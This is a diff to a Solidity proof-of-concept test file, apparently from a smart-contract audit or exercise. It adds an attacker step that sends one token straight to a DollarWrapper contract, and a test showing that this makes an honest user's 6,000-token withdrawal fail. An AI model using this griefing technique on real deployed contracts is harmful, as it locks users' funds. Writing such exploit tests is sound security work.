@@ -47,6 +47,7 @@ contract Proof {
         wrapper.deposit(ANA, 6_000);
         vm.stopPrank();
         mallory = new Attacker(wrapper);
+        dollar.mint(address(mallory), 1);
     }
 
     function test_Regular() public {
@@ -123,6 +124,22 @@ contract Proof {
         require(dollar.balanceOf(address(mallory)) >= 6_000, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.give();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        (bool done, ) = address(this).call(abi.encodeCall(this.withdrawalOfAna, ()));
+        require(!done, "nothing denied");
+    }
+
+    // An honest user's call.
+    function withdrawalOfAna() external {
+        vm.prank(ANA);
+        wrapper.withdraw(ANA, 6_000);
+    }
+
     function target() public view returns (address) {
         return address(wrapper);
     }
@@ -137,6 +154,10 @@ contract Attacker {
 
     constructor(DollarWrapper wrapper_) {
         wrapper = wrapper_;
+    }
+
+    function give() external {
+        wrapper.dollar().transfer(address(wrapper), 1);
     }
 
     function run(address holder) external {
